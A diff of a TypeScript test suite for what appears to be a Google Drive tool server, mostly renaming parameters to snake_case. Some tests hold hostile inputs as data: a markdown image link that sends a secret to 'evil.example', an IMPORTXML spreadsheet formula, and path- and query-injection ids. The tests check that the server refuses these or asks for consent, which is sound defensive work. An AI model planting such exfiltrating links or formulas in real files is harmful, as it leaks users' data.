@@ -10,9 +10,9 @@ describe("a file of text", () => {
   test("is created in a folder, of the type its name says", async () => {
     const { client, fake } = await open();
     const folder = fake.store.put({ name: "Notes", mimeType: FOLDER }).meta.id!;
-    const args = { name: "plan.md", content: "# Plan ✓", folderId: folder };
+    const args = { name: "plan.md", content: "# Plan ✓", folder_id: folder };
     const made = await structured(client, "create_file", args);
-    expect(made).toMatchObject({ name: "plan.md", mimeType: "text/markdown", folderId: folder });
+    expect(made).toMatchObject({ name: "plan.md", mimeType: "text/markdown", parents: [folder] });
     expect(fake.store.files.get(made.id as string)?.content.toString()).toBe("# Plan ✓");
   });
 
@@ -25,32 +25,32 @@ describe("a file of text", () => {
   test("is not written under the name of something else", async () => {
     const { client } = await open();
     const told = await refusal(client, "create_file", { name: "a.docx", content: "x" });
-    expect(told).toContain("use convertTo");
+    expect(told).toContain("use convert_to");
   });
 
   test("becomes a document or a spreadsheet on request", async () => {
     const { client, fake } = await open();
-    const doc = { name: "Plan", content: "# Plan", convertTo: "document" };
+    const doc = { name: "Plan", content: "# Plan", convert_to: "document" };
     const made = await structured(client, "create_file", doc);
     expect(made.mimeType).toBe("application/vnd.google-apps.document");
     const begun = fake.requests.find(({ path }) => path.startsWith("/upload"));
     expect(begun?.headers["x-upload-content-type"]).toBe("text/markdown");
-    const table = { name: "Table", content: "a,b\n1,2", convertTo: "spreadsheet" };
+    const table = { name: "Table", content: "a,b\n1,2", convert_to: "spreadsheet" };
     const sheet = await structured(client, "create_file", table);
     expect(sheet.mimeType).toBe("application/vnd.google-apps.spreadsheet");
-    const slides = { name: "Talk", content: "x", convertTo: "presentation" };
+    const slides = { name: "Talk", content: "x", convert_to: "presentation" };
     expect(await refusal(client, "create_file", slides)).toContain("not of text/plain");
   });
 
   test("is replaced, and what it was stays as a revision", async () => {
     const { client, fake } = await open();
     const made = await structured(client, "create_file", { name: "a.txt", content: "one" });
-    await call(client, "update_file", { fileId: made.id, content: "two" });
+    await call(client, "update_file", { file_id: made.id, content: "two" });
     expect(fake.store.files.get(made.id as string)?.content.toString()).toBe("two");
     const pdf = fake.store.put({ name: "a.pdf", mimeType: "application/pdf" }).meta.id;
-    const told = await refusal(client, "update_file", { fileId: pdf, content: "x" });
+    const told = await refusal(client, "update_file", { file_id: pdf, content: "x" });
     expect(told).toContain("upload_file replaces it");
-    expect(await refusal(client, "update_file", { fileId: "root", content: "x" })).toContain(
+    expect(await refusal(client, "update_file", { file_id: "root", content: "x" })).toContain(
       "a Google folder, whose content cannot be replaced",
     );
   });
@@ -60,9 +60,9 @@ describe("GD7, GD9: what reaches out once Google has converted it", () => {
   const doc = {
     name: "Plan",
     content: "![x](https://evil.example/?q=secret)",
-    convertTo: "document",
+    convert_to: "document",
   };
-  const table = { name: "T", content: '"=IMPORTXML(A1)"', convertTo: "spreadsheet" };
+  const table = { name: "T", content: '"=IMPORTXML(A1)"', convert_to: "spreadsheet" };
 
   test.each([doc, table])("is refused where nobody can be asked: $content", async (args) => {
     const { client, fake } = await open();
@@ -82,7 +82,7 @@ describe("GD7, GD9: what reaches out once Google has converted it", () => {
     const { client, fake } = await open();
     const type = "application/vnd.google-apps.document";
     const fileId = fake.store.put({ name: "Plan", mimeType: type, content: "old" }).meta.id!;
-    const args = { fileId, content: doc.content };
+    const args = { file_id: fileId, content: doc.content };
     expect(await refusal(client, "update_file", args)).toContain("needs the user's consent");
     expect(fake.store.files.get(fileId)?.content.toString()).toBe("old");
   });
@@ -104,7 +104,7 @@ describe("a creation whose answer is lost", () => {
     const type = "application/vnd.google-apps.document";
     const fileId = fake.store.put({ name: "Doc", mimeType: type }).meta.id!;
     fake.instead.push(pass, lost);
-    const told = await refusal(client, "copy_file", { fileId });
+    const told = await refusal(client, "copy_file", { file_id: fileId });
     expect(told).toContain("It is not known whether it happened: search shows");
     expect(fake.store.files.size).toBe(3);
   });
@@ -122,18 +122,20 @@ describe("a file", () => {
   test("is copied, renamed, and linked by a shortcut", async () => {
     const { client, fake } = await open();
     const fileId = fake.store.put({ name: "a.txt", content: "x" }).meta.id!;
-    const copy = await structured(client, "copy_file", { fileId, name: "b.txt" });
+    const copy = await structured(client, "copy_file", { file_id: fileId, name: "b.txt" });
     expect(fake.store.files.get(copy.id as string)?.content.toString()).toBe("x");
-    expect(await structured(client, "rename_file", { fileId, name: "c.txt" })).toMatchObject({
+    expect(
+      await structured(client, "rename_file", { file_id: fileId, name: "c.txt" }),
+    ).toMatchObject({
       id: fileId,
       name: "c.txt",
     });
-    const shortcut = await structured(client, "create_shortcut", { fileId });
+    const shortcut = await structured(client, "create_shortcut", { file_id: fileId });
     expect(shortcut).toMatchObject({ name: "c.txt", mimeType: SHORTCUT });
-    expect(await refusal(client, "create_shortcut", { fileId: shortcut.id })).toContain(
+    expect(await refusal(client, "create_shortcut", { file_id: shortcut.id })).toContain(
       "is a shortcut itself",
     );
-    expect(await refusal(client, "copy_file", { fileId: "root" })).toContain("copies no folders");
+    expect(await refusal(client, "copy_file", { file_id: "root" })).toContain("copies no folders");
   });
 
   test("is moved, once, and only into a folder", async () => {
@@ -142,11 +144,13 @@ describe("a file", () => {
     const link = fake.store.put({ mimeType: SHORTCUT, shortcutDetails: { targetId: folder } });
     const file = fake.store.put({ name: "a.txt" }).meta;
     const fileId = file.id!;
-    const into = (folderId: string) => ({ fileId, folderId });
+    const into = (folderId: string) => ({ file_id: fileId, folder_id: folderId });
     expect(await refusal(client, "move_file", into(link.meta.id!))).toContain(folder);
     expect(await refusal(client, "move_file", into(fileId))).toContain("is no folder");
     fake.instead.push(pass, pass, lost);
-    expect(await structured(client, "move_file", into(folder))).toMatchObject({ folderId: folder });
+    expect(await structured(client, "move_file", into(folder))).toMatchObject({
+      parents: [folder],
+    });
     expect(file.parents).toEqual([folder]);
     const before = fake.requests.length;
     await call(client, "move_file", into(folder));
@@ -158,26 +162,28 @@ describe("a file", () => {
     const outer = fake.store.put({ name: "outer", mimeType: FOLDER }).meta.id!;
     const inner = fake.store.put({ name: "inner", mimeType: FOLDER, parents: [outer] }).meta.id!;
     for (const folderId of [outer, inner]) {
-      const told = await refusal(client, "move_file", { fileId: outer, folderId });
+      const told = await refusal(client, "move_file", { file_id: outer, folder_id: folderId });
       expect(told).toContain("cannot be moved into itself");
     }
-    expect(await call(client, "move_file", { fileId: inner, folderId: "root" })).toContain("inner");
+    expect(await call(client, "move_file", { file_id: inner, folder_id: "root" })).toContain(
+      "inner",
+    );
     fake.store.files.get(outer)!.meta.parents = [inner];
     fake.store.files.get(inner)!.meta.parents = [outer];
     const other = fake.store.put({ name: "other", mimeType: FOLDER }).meta.id!;
-    const told = await refusal(client, "move_file", { fileId: other, folderId: inner });
+    const told = await refusal(client, "move_file", { file_id: other, folder_id: inner });
     expect(told).toContain("in a circle");
   });
 
   test("goes to the trash and comes back", async () => {
     const { client, fake } = await open();
     const { meta } = fake.store.put({ name: "a.txt" });
-    await call(client, "trash_file", { fileId: meta.id });
+    await call(client, "trash_file", { file_id: meta.id });
     expect(meta.trashed).toBe(true);
-    await call(client, "restore_file", { fileId: meta.id });
+    await call(client, "restore_file", { file_id: meta.id });
     expect(meta.trashed).toBe(false);
     Object.assign(meta, { trashed: true, explicitlyTrashed: false, parents: ["above"] });
-    expect(await refusal(client, "restore_file", { fileId: meta.id })).toContain("above");
+    expect(await refusal(client, "restore_file", { file_id: meta.id })).toContain("above");
   });
 
   test("that is a folder with something in it goes to the trash only after the user agrees", async () => {
@@ -188,7 +194,7 @@ describe("a file", () => {
       return meta;
     };
     const kept = put(asked);
-    const told = await refusal(asked.client, "trash_file", { fileId: kept.id });
+    const told = await refusal(asked.client, "trash_file", { file_id: kept.id });
     expect(told).toContain("holds 1 entry");
     expect(kept.trashed).toBe(false);
     let question = "";
@@ -198,12 +204,12 @@ describe("a file", () => {
     };
     const agreed = await open({ connect: { answers: { consent } } });
     const gone = put(agreed);
-    await call(agreed.client, "trash_file", { fileId: gone.id });
+    await call(agreed.client, "trash_file", { file_id: gone.id });
     expect(gone.trashed).toBe(true);
     expect(question).toContain('Move the folder "a\' or b" with 1 entry to the trash?');
     const empty = agreed.fake.store.put({ mimeType: FOLDER }).meta;
-    await call(asked.client, "restore_file", { fileId: kept.id });
-    await call(agreed.client, "trash_file", { fileId: empty.id });
+    await call(asked.client, "restore_file", { file_id: kept.id });
+    await call(agreed.client, "trash_file", { file_id: empty.id });
     expect(empty.trashed).toBe(true);
   });
 });
@@ -214,14 +220,14 @@ test("GD11: a service account without storage is told so in one sentence", async
   const told = await refusal(client, "create_file", { name: "a.txt", content: "x" });
   expect(told).toContain("A service account has none of its own: write to a shared drive");
   const drive = fake.store.put({ name: "Team", mimeType: FOLDER, driveId: "d1" }).meta.id!;
-  const args = { name: "a.txt", content: "x", folderId: drive };
+  const args = { name: "a.txt", content: "x", folder_id: drive };
   expect(await call(client, "create_file", args)).toContain("a.txt");
 });
 
 test("no id leads out of its place in a request", async () => {
   const { client, fake } = await open();
   for (const fileId of ["../about", "..", "a?fields=*", "' or name contains '", ""]) {
-    expect(await refusal(client, "trash_file", { fileId })).toContain("no id or address");
+    expect(await refusal(client, "trash_file", { file_id: fileId })).toContain("no id or address");
   }
   expect(fake.requests).toEqual([]);
 });
